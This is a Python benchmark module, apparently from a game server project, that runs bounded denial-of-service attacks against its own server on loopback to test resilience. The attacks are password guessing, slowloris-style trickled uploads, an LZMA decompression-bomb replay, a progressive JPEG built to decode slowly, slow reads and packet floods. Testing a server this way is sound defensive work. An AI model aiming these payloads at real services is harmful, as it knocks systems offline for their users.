"""The attacks of `scripts/bench attack`, each from one address or a few accounts: `python -m benchmarks.attacks`.

The process reads a `Plan` from the first line of standard input, prints `ready` when its payloads are prepared, waits
for a second line, attacks, and prints a `Report`. It connects to loopback only; its time, connections and requests are
bounded. An attacker sends the next request immediately, or 0.1 s after a refusal.
"""

import asyncio
import contextlib
import io
import itertools
import json
import lzma
import random
import re
import socket
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from typing import Final
from urllib.parse import urlencode

import msgspec
from tests.faces.bancho.client_bytes import whole
from tests.wire.submitting import BUILD, CLIENT_HASH, OSU, SUBMIT, Played, multipart, password_md5

from benchmarks.honest import API, BANCHO, TOKEN_CHARACTERS
from benchmarks.http_client import Connections, request
from kiai.faces.bancho.packets import ClientMessage, ClientPacket, JoinMatch, MatchForm, SlotForm

REQUESTS_MAX: Final = 20_000
REFUSED_S: Final = 0.1
BODY_MAX: Final = (1 << 20) - 1024  # just below the limit of a poll
SUBMISSION_BYTES: Final = 10 << 20
AVATAR_BYTES: Final = 4 << 20
TRICKLE_S: Final = 0.5
PING: Final = 4
REPLAY_BYTES: Final = 49 << 20
SCANS: Final = 50  # with the ten of the original picture just below the server's limit
PICTURE_SIDE: Final = 4096
NOISE_SIDE: Final = 1_100  # of a picture of 3.6 MB
UNREAD_BUFFER_BYTES: Final = 4_096
SLOW_READ_BYTES: Final = 1_024


class Attacker(msgspec.Struct, frozen=True):
    """An account of the attacker."""

    name: str
    id: int
    key: str


class Plan(msgspec.Struct, frozen=True):
    """The parameters of an attack. `share` is the share of the attack's connections to use, 0 to 1."""

    attack: str
    port: int
    seconds: float
    share: float
    address: str
    attackers: list[Attacker]
    victims: list[int]
    victim_names: list[str]
    songs: list[str]


class Report(msgspec.Struct, frozen=True):
    """The number of answers by status or name of the error."""

    answers: dict[str, int]


class Attack:
    """A running attack."""

    def __init__(self, plan: Plan) -> None:
        self.plan = plan
        self.answers: Counter[str] = Counter()
        self._until = 0.0
        self._chance = random.Random(1)

    def connections(self, count: int) -> int:
        """Return the plan's share of a number of connections."""
        return max(1, round(count * self.plan.share))

    def begin(self) -> None:
        """Start the clock."""
        self._until = time.perf_counter() + self.plan.seconds

    @property
    def over(self) -> bool:
        """Whether the time or the number of requests is used up."""
        return time.perf_counter() >= self._until or self.answers.total() >= REQUESTS_MAX

    async def repeat(self, count: int, requests: Iterator[bytes]) -> None:
        """Send requests on `count` connections until the attack is over."""

        async def send_all() -> None:
            connections = Connections(self.plan.port)
            while not self.over:
                status = await self.ask(connections, next(requests))
                if status != "200":
                    await asyncio.sleep(REFUSED_S)
            connections.close()

        with contextlib.suppress(TimeoutError):  # `ask` counts the cancelled requests as unanswered
            async with asyncio.timeout(self.plan.seconds + 5.0):
                await asyncio.gather(*(send_all() for _ in range(self.connections(count))))

    async def ask(self, connections: Connections, raw: bytes) -> str:
        """Send a request and return its status or the name of the error."""
        try:
            answer = await connections.ask(raw)
            token = answer.headers.get("cho-token", "")
            status = str(answer.status) if len(token) in (0, TOKEN_CHARACTERS) else token  # a refused login
        except (OSError, asyncio.IncompleteReadError) as error:
            status = type(error).__name__
        except asyncio.CancelledError:
            self.answers["unanswered"] += 1
            raise
        self.answers[status] += 1
        return status

    async def sessions(self) -> list[str]:
        """Log all accounts of the attacker in and return their tokens."""
        connections = Connections(self.plan.port)
        tokens = []
        for account in self.plan.attackers:
            body = f"{account.name}\n{password_md5()}\nb{BUILD}|0|0|{CLIENT_HASH}|0\n".encode()
            answer = await connections.ask(request("POST", BANCHO, "/", self.plan.address, body=body))
            token = answer.headers["cho-token"]
            assert len(token) == TOKEN_CHARACTERS, token
            tokens.append(token)
        connections.close()
        return tokens

    async def packets(self, bodies: list[bytes]) -> None:
        """Send these bodies in turn from the session of each account."""
        tokens = await self.sessions()
        polls = [
            request("POST", BANCHO, "/", self.plan.address, {"osu-token": token}, body[:BODY_MAX])
            for body in bodies
            for token in tokens
        ]
        self.begin()
        await self.repeat(4, itertools.cycle(polls))


# --- the attacks: each prepares its payloads, calls `go`, which waits for the start, and attacks

Go = Callable[[], Awaitable[None]]


async def wrong_passwords(attack: Attack, go: Go) -> None:
    """Guess passwords of existing and unknown names, in the game and on the web, on 90 connections."""

    def guesses() -> Iterator[bytes]:
        for number in itertools.count():
            guess = f"{number:032x}"
            name = attack.plan.victim_names[number % len(attack.plan.victim_names)] if number % 2 else f"no {number}"
            if number % 3:
                target = f"/web/osu-getfriends.php?{urlencode({'u': name, 'h': guess})}"
                yield request("GET", OSU, target, attack.plan.address)
            else:
                body = f"{name}\n{guess}\nb{BUILD}|0|0|{CLIENT_HASH}|0\n".encode()
                yield request("POST", BANCHO, "/", attack.plan.address, body=body)

    await go()
    await attack.repeat(90, guesses())


async def slow_reads(attack: Attack, go: Go) -> None:
    """Request rare filters, searches in the middle of names, and deep pages, on 40 connections."""

    def reads() -> Iterator[bytes]:
        chance = random.Random(1)
        for number in itertools.count():
            page = chance.randint(20, 400)
            target = (
                f"/v2/scores?mode=6&mods={chance.randint(1, 2**30)}",
                f"/v2/scores?status=0&mods={chance.randint(1, 2**30)}&page_size=100",
                f"/v2/players?clan_priv=2&play_style={chance.randint(1, 31)}",
                f"/search_players?q={chance.choice('xqzjkv')}{chance.randint(10, 99)}",
                f"/v2/players/search?q={chance.choice('xqzjkv')}{chance.choice('xqzjkv')}",
                f"/v2/scores?page={page}&page_size=100",
                f"/v2/maps?q={chance.choice('xqzjkv')}{chance.randint(10, 99)}",
                f"/v2/leaderboards/0?page={page}",
            )[number % 8]
            yield request("GET", API, target, attack.plan.address)

    await go()
    await attack.repeat(40, reads())


async def half_sent_uploads(attack: Attack, go: Go) -> None:
    """Send 50 uploads except for their last KiB, which trickles."""
    play, kind = multipart(Played(attack.plan.songs[0], attack.plan.attackers[0].name).parts())
    cut = play.index(b'filename="replay"')
    start = play[: play.index(b"\r\n\r\n", cut) + 4]
    junk = bytes(1 << 20)

    def head(host: str, target: str, length: int, headers: dict[str, str]) -> bytes:
        complete_head = request("POST", host, target, attack.plan.address, headers)
        return complete_head.replace(b"Content-Length: 0", b"Content-Length: %d" % length)

    async def upload(first: bytes, length: int) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", attack.plan.port)
        try:
            writer.write(first)
            left = length - 1024
            while left > 0 and not attack.over and not reader.at_eof():
                writer.write(junk[: min(left, len(junk))])
                left -= len(junk)
                async with asyncio.timeout(30.0):
                    await writer.drain()
            while not attack.over and not reader.at_eof() and not writer.is_closing():
                writer.write(b"\0")
                await asyncio.sleep(TRICKLE_S)
            status_line = await reader.read(16) if reader.at_eof() else b""
            attack.answers[status_line[9:12].decode() or ("open" if attack.over else "closed")] += 1
        except (OSError, TimeoutError) as error:
            attack.answers[type(error).__name__] += 1
        finally:
            writer.close()

    async def uploader(number: int) -> None:
        account = attack.plan.attackers[number % len(attack.plan.attackers)]
        while not attack.over:
            if number % 2:
                first = head(OSU, SUBMIT, SUBMISSION_BYTES, {"Content-Type": kind, "Token": "x"}) + start
                await upload(first, SUBMISSION_BYTES - len(start))
            else:
                headers = {"Content-Type": "image/png", "Authorization": f"Bearer {account.key}"}
                await upload(head(API, "/set_avatar", AVATAR_BYTES, headers), AVATAR_BYTES)
            await asyncio.sleep(REFUSED_S)

    await go()
    await asyncio.gather(*(uploader(number) for number in range(attack.connections(50))))


async def spectating(attack: Attack, go: Go) -> None:
    """Start and stop spectating the honest players, 9,000 times per body, from each account."""
    bodies = [
        (whole(ClientPacket.START_SPECTATING, victim) + whole(ClientPacket.STOP_SPECTATING, None)) * 9_000
        for victim in attack.plan.victims
    ]
    await go()
    await attack.packets(bodies)


async def cheap_packets(attack: Attack, go: Go) -> None:
    """Send bodies of the smallest packets: commands, private messages, wrong passwords of a match, pings."""
    victim = attack.plan.victim_names[0]
    bodies = [
        whole(ClientPacket.SEND_PRIVATE_MESSAGE, ClientMessage("", "!help", "BanchoBot", 0)) * 20_000,
        whole(ClientPacket.SEND_PRIVATE_MESSAGE, ClientMessage("", "hello", "BanchoBot", 0)) * 20_000,
        whole(ClientPacket.JOIN_MATCH, JoinMatch(1, "wrong")) * 20_000,
        whole(ClientPacket.SEND_PRIVATE_MESSAGE, ClientMessage("", "hello", victim, 0)) * 20_000,
        (whole(ClientPacket.JOIN_LOBBY, None) + whole(ClientPacket.PART_LOBBY, None)) * 20_000,
        whole(PING, None) * 100_000,
    ]
    await go()
    await attack.packets(bodies)


async def matches(attack: Attack, go: Go) -> None:
    """Create and leave a match, 4,000 times per body, from each account."""
    slots = tuple(SlotForm(1, 0, 0, 0) for _ in range(16))
    form = MatchForm(0, False, 0, "match", "secret", "A - B [C]", 75, "0" * 32, slots, 3, 0, 0, 0, False, 0)
    body = (
        whole(ClientPacket.JOIN_LOBBY, None)
        + whole(ClientPacket.CREATE_MATCH, form)
        + whole(ClientPacket.PART_MATCH, None)
    ) * 4_000
    await go()
    await attack.packets([body])


async def pictures(attack: Attack, go: Go) -> None:
    """Upload small avatars and screenshots that take seconds to decode."""
    picture = slow_picture()

    def uploads() -> Iterator[bytes]:
        for number in itertools.count():
            account = attack.plan.attackers[number % len(attack.plan.attackers)]
            if number % 2:
                parts: list[tuple[str, str | None, bytes]] = [
                    ("u", None, account.name.encode()),
                    ("p", None, password_md5().encode()),
                    ("ss", "ss", picture),
                ]
                body, kind = multipart(parts)
                yield request("POST", OSU, "/web/osu-screenshot.php", attack.plan.address, {"Content-Type": kind}, body)
            else:
                body, kind = multipart([("avatar", "avatar.jpg", picture)])
                headers = {"Authorization": f"Bearer {account.key}", "Content-Type": kind}
                yield request("POST", API, "/set_avatar", attack.plan.address, headers, body)

    await attack.sessions()  # a screenshot requires a session
    await go()
    await attack.repeat(8, uploads())


async def replays(attack: Attack, go: Go) -> None:
    """Submit plays with a replay of 7 KB that decompresses to 49 MiB."""
    replay = lzma.compress(
        (b"0|0|0|0," * (REPLAY_BYTES // 8)),
        format=lzma.FORMAT_ALONE,
        filters=[{"id": lzma.FILTER_LZMA1, "preset": 0, "dict_size": 1 << 21}],
    )

    def plays() -> Iterator[bytes]:
        for number in itertools.count():
            account = attack.plan.attackers[number % len(attack.plan.attackers)]
            played = Played(attack.plan.songs[0], account.name, score=2_000_000 + number, replay=replay)
            body, kind = multipart(played.parts())
            yield request("POST", OSU, SUBMIT, attack.plan.address, {"Content-Type": kind, "Token": "x"}, body)

    ready = list(itertools.islice(plays(), 40))
    await attack.sessions()  # a submission needs a session
    await go()
    await attack.repeat(8, itertools.cycle(ready))


async def event_streams(attack: Attack, go: Go) -> None:
    """Open 100 event streams. A listener reconnects after a refusal."""
    raw = request("GET", API, "/v2/events", attack.plan.address)

    async def listener() -> None:
        while not attack.over:
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", attack.plan.port)
                writer.write(raw)
                status = (await reader.readuntil(b"\r\n"))[9:12].decode()
                attack.answers[status] += 1
                while status == "200" and not attack.over:
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(TRICKLE_S):
                            received = await reader.read(65_536)
                        if not received:
                            break
                writer.close()
            except (OSError, asyncio.IncompleteReadError) as error:
                attack.answers[type(error).__name__] += 1
            await asyncio.sleep(REFUSED_S)

    await go()
    await asyncio.gather(*(listener() for _ in range(attack.connections(100))))


async def unread_answers(attack: Attack, go: Go) -> None:
    """Download a picture of several MB on 190 connections, and read 1 KB/s of each answer."""
    await attack.sessions()  # a screenshot requires a session
    name = await upload_noise(attack)
    raw = request("GET", OSU, f"/ss/{name}", attack.plan.address)

    async def download_all() -> None:
        # The system of the attacker must not accept what the attacker does not read.
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, UNREAD_BUFFER_BYTES)
        connection.setblocking(False)
        await asyncio.get_running_loop().sock_connect(connection, ("127.0.0.1", attack.plan.port))
        reader, writer = await asyncio.open_connection(sock=connection, limit=UNREAD_BUFFER_BYTES)
        try:
            while not attack.over:
                writer.write(raw)
                async with asyncio.timeout(attack.plan.seconds + 5.0):
                    head = await reader.readuntil(b"\r\n\r\n")
                attack.answers[head[9:12].decode()] += 1
                if head[9:12] == b"200":
                    await read_slowly(attack, reader)
                    return
                found = re.search(rb"content-length: (\d+)", head)
                await reader.readexactly(int(found[1]) if found else 0)
                await asyncio.sleep(REFUSED_S)
        finally:
            writer.close()

    async def downloader() -> None:
        while not attack.over:
            try:
                await download_all()
            except (OSError, TimeoutError, asyncio.IncompleteReadError) as error:
                attack.answers[type(error).__name__] += 1
            await asyncio.sleep(REFUSED_S)

    await go()
    await asyncio.gather(*(downloader() for _ in range(attack.connections(190))))


async def read_slowly(attack: Attack, reader: asyncio.StreamReader) -> None:
    """Read 1 KB/s until the server closes the connection or the attack is over."""
    began = time.perf_counter()
    for second in itertools.count(1):
        if attack.over or not await reader.read(SLOW_READ_BYTES):
            return
        await asyncio.sleep(max(0.0, began + second - time.perf_counter()))


async def upload_noise(attack: Attack) -> str:
    """Upload a screenshot that does not compress, and return its name."""
    from PIL import Image

    out = io.BytesIO()
    noise = random.Random(1).randbytes(3 * NOISE_SIDE**2)
    Image.frombytes("RGB", (NOISE_SIDE, NOISE_SIDE), noise).save(out, "PNG", compress_level=1)
    author = attack.plan.attackers[0].name
    parts: list[tuple[str, str | None, bytes]] = [
        ("u", None, author.encode()),
        ("p", None, password_md5().encode()),
        ("ss", "ss", out.getvalue()),
    ]
    body, kind = multipart(parts)
    connections = Connections(attack.plan.port)
    raw = request("POST", OSU, "/web/osu-screenshot.php", attack.plan.address, {"Content-Type": kind}, body)
    answer = await connections.ask(raw)
    connections.close()
    assert answer.status == 200, answer
    return answer.body.decode()


ATTACKS: Final[dict[str, Callable[[Attack, Go], Awaitable[None]]]] = {
    "wrong passwords": wrong_passwords,
    "slow reads": slow_reads,
    "half-sent uploads": half_sent_uploads,
    "spectating": spectating,
    "cheap packets": cheap_packets,
    "matches": matches,
    "pictures": pictures,
    "replays": replays,
    "event streams": event_streams,
    "unread answers": unread_answers,
}


def slow_picture() -> bytes:
    """Return a progressive JPEG of 16 million pixels that repeats its last scan."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (PICTURE_SIDE, PICTURE_SIDE)).save(out, "JPEG", progressive=True)
    data = out.getvalue()
    scan = data[data.rindex(b"\xff\xda") : data.rindex(b"\xff\xd9")]
    return data[: data.rindex(b"\xff\xd9")] + scan * SCANS + b"\xff\xd9"


async def run(plan: Plan) -> Report:
    """Run one attack."""
    attack = Attack(plan)

    async def go() -> None:
        print("ready", flush=True)
        await asyncio.to_thread(sys.stdin.readline)
        attack.begin()

    await ATTACKS[plan.attack](attack, go)
    return Report(dict(attack.answers))


if __name__ == "__main__":
    found = asyncio.run(run(msgspec.json.decode(sys.stdin.readline(), type=Plan)))
    print(json.dumps(msgspec.to_builtins(found)))
